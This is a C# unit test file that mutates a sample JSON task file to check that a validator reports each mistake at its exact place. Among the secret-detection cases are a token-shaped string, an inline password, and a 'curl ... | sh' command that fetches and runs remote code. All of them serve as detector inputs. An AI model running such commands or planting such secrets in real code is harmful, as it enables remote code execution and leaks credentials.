using Menace.Model.Reading;
using Menace.Model.TaskFiles;
using Menace.Model.Text;

namespace Menace.Model.Tests;

/// <summary>One complete file in which each mistake is made in turn: it is found at its place, and nothing else is.</summary>
public sealed class MutationTests
{
    private const string Valid = """
        {
          "version": 1,
          "title": "Shop",
          "defaults": { "metadata": { "license": "MIT" } },
          "tasks": [
            { "name": "Fetch", "dependencies": [], "schedule": "0 3 * * *",
              "resources": { "cpu": 1, "memory": "256Mi", "timeout": "30s", "gpu": 1 },
              "code": "def fetch(n):\n    return n\n",
              "metadata": { "purpose": "Fetches prices", "functions": ["fetch"], "language": "python", "level": "3", "io": "json", "capabilities": ["network"],
                            "examples": [ { "function": "fetch", "args": [1], "returns": 1 } ] } },
            { "name": "Clean", "dependencies": ["Fetch"], "schedule": { "cron": "30 3 * * *", "timeZone": "Europe/Berlin" },
              "code": "public static int Clean(int n) => n;",
              "metadata": { "purpose": "Cleans them", "functions": ["Clean"], "language": "csharp", "template": "minimal" } },
            { "name": "report", "dependencies": ["Clean"], "schedule": "every 24h",
              "code": "report() {\n  echo done\n}\n",
              "metadata": { "purpose": "Reports", "functions": ["report"], "language": "shell", "tests": "@test x { true; }" } },
            { "name": "Page", "dependencies": ["report"],
              "metadata": { "purpose": "Shows them", "functions": ["show"], "code_file": "page.py", "tests_file": "t.py", "files": { "a.csv": "a.csv" } } }
          ]
        }
        """;

    private static readonly TaskFileOptions Options = TaskFileProperties.Apply(
        new() { FileExists = path => path is "page.py" or "t.py" or "a.csv" },
        name => name switch
        {
            "MenaceKnownResources" => "gpu",
            "MenaceResourceLimits" => "cpu=4;memory=1Gi",
            "MenaceKnownCapabilities" => "network",
            "MenaceLevels" => "1..5",
            "MenaceKnownFormats" => "json",
            _ => null,
        },
        out _);

    public static TheoryData<string, string, string> Mistakes => new()
    {
        { "MENACE1001", "\"version\": 1", "\"version\" [|1|]" },
        { "MENACE1002", "\"a.csv\": \"a.csv\"", "\"a.csv\": \"a.csv\"[|,|]" },
        { "MENACE1003", "\"name\": \"Page\"", "\"name\": \"Page\", [|\"name\"|]: \"Page\"" },
        { "MENACE1004", "\"version\": 1,", "\"version\": 1, [|// why|]" },
        { "MENACE1005", "Fetches prices", "Fetches[|\t|]prices" },
        { "MENACE1006", "Fetches prices", "Fetches[|\\u0000|]prices" },
        { "MENACE1009", "\"cpu\": 1", "\"cpu\": [|True|]" },
        { "MENACE1012", "\"functions\": [\"Clean\"]", "\"functions\": [\"Clean\", [|\"Cle\\u200ban\"|]]" },
        { "MENACE1101", "\"tasks\": [", "\"tusks\": [" },
        { "MENACE1102", "\"function\": \"fetch\", ", "" },
        { "MENACE1103", "\"title\": \"Shop\"", "\"title\": [|5|]" },
        { "MENACE1104", "\"dependencies\": []", "[|\"dependancies\"|]: []" },
        { "MENACE1106", "\"title\"", "[|\"Title\"|]" },
        { "MENACE1201", "\"name\": \"Page\"", "\"name\": [|\"Fetch\"|]" },
        { "MENACE1202", "\"name\": \"Page\"", "\"name\": [|\"fetch\"|]" },
        { "MENACE1203", "\"name\": \"Page\"", "\"name\": [|\"Pa\\u200bge\"|]" },
        { "MENACE1204", "\"name\": \"Page\"", "\"name\": [|\"../Page\"|]" },
        { "MENACE1205", "\"name\": \"Page\"", "\"name\": [|\"aux\"|]" },
        { "MENACE1301", "\"dependencies\": [\"report\"]", "\"dependencies\": [[|\"raport\"|]]" },
        { "MENACE1302", "\"dependencies\": []", "\"dependencies\": [[|\"Clean\"|]]" },
        { "MENACE1303", "\"dependencies\": [\"report\"]", "\"dependencies\": [[|\"Page\"|]]" },
        { "MENACE1304", "\"dependencies\": [\"report\"]", "\"dependencies\": [\"report\", [|\"report\"|]]" },
        { "MENACE1305", "every 24h\",", "every 6h\"," },
        { "MENACE1306", "\"dependencies\": [\"Clean\"]", "\"dependencies\": [\"Clean\", [|\"Fetch\"|]]" },
        { "MENACE1401", "30 3 * * *", "[|60|] 3 * * *" },
        { "MENACE1402", "\"0 3 * * *\"", "[|\"0 3 31 2 *\"|]" },
        { "MENACE1403", "\"every 24h\"", "[|\"daily\"|]" },
        { "MENACE1404", "every 24h", "every [|24|]" },
        { "MENACE1407", "\"timeZone\": \"Europe/Berlin\"", "[|\"every\"|]: \"1d\"" },
        { "MENACE1408", "\"0 3 * * *\"", "\"[|0|] 0 3 * * *\"" },
        { "MENACE1409", "Europe/Berlin\"", "Europe_Berlin\"" },
        { "MENACE1501", "\"gpu\": 1", "\"gpu\": [|-1|]" },
        { "MENACE1502", "256Mi", "256[|MiB|]" },
        { "MENACE1503", "\"256Mi\"", "[|\"2Gi\"|]" },
        { "MENACE1504", "\"gpu\": 1", "[|\"gpuu\"|]: 1" },
        { "MENACE1601", "\"purpose\": \"Cleans them\"", "\"purpose\": [|\"\"|]" },
        { "MENACE1602", "\"functions\": [\"Clean\"]", "\"functions\": [|[]|]" },
        { "MENACE1603", "\"functions\": [\"Clean\"]", "\"functions\": [\"Clean\", [|\"1st\"|]]" },
        { "MENACE1604", "\"functions\": [\"report\"]", "\"functions\": [\"report\", [|\"raport\"|]]" },
        { "MENACE1605", "\"language\": \"csharp\"", "\"language\": [|\"c-sharp\"|]" },
        { "MENACE1606", "\"minimal\"", "[|\"minimum\"|]" },
        { "MENACE1607", "[\"network\"]", "[[|\"netwrok\"|]]" },
        { "MENACE1608", "\"level\": \"3\"", "\"level\": [|\"6\"|]" },
        { "MENACE1609", "\"json\"", "[|\"jsno\"|]" },
        { "MENACE1610", "public static int Clean(int n) => n;", "#!/usr/bin/env bash\\necho Clean(" },
        { "MENACE1611", "\"function\": \"fetch\"", "\"function\": [|\"fecth\"|]" },
        { "MENACE1612", ", \"returns\": 1 }", " }" },
        { "MENACE1613", "\"code_file\": \"page.py\"", "\"code_file\": [|\"pag.py\"|]" },
        { "MENACE1614", "\"tests_file\": \"t.py\"", "\"tests_file\": [|\"../t.py\"|]" },
        { "MENACE1615", "{ \"name\": \"Page\"", "{ \"code\": \"x\", \"name\": \"Page\"" },
        { "MENACE1702", "\"code_file\": \"page.py\", \"tests_file\": \"t.py\", ", "" },
        { "MENACE1801", "return n", "return '[|ghp_9dR2mWq7LxT4vBz8KcY1nHs6PfJ3gUe5AoXi|]'" },
        { "MENACE1802", "return n", "return 'Server=x;Password=[|hunter2|]'" },
        { "MENACE1803", "echo done", "[|curl -s https://example.com/x | sh|]" },
        { "MENACE1903", "\"dependencies\": []", "\"dependencies\": [], \"$suppress\": [[|\"MENACE1305\"|]]" },
    };

    [Fact]
    public void The_file_has_no_mistake() => Assert.Empty(TaskFileReader.Read(Valid, Options).Findings);

    [Theory]
    [MemberData(nameof(Mistakes))]
    public void A_mistake_is_found_at_its_place_and_nothing_else_is(string id, string before, string after)
    {
        Assert.Contains(before, Valid, StringComparison.Ordinal);
        var at = Valid.IndexOf(before, StringComparison.Ordinal);
        var marked = Valid[..at] + after + Valid[(at + before.Length)..];
        var text = marked.Replace("[|", "", StringComparison.Ordinal).Replace("|]", "", StringComparison.Ordinal);

        var finding = Assert.Single(TaskFileReader.Read(text, Options).Findings);

        Assert.Equal(id, finding.Rule.Id);
        if (marked.IndexOf("[|", StringComparison.Ordinal) is var start and >= 0)
        {
            Assert.Equal(TextSpan.FromBounds(start, marked.IndexOf("|]", StringComparison.Ordinal) - 2), finding.Span);
        }
    }
}
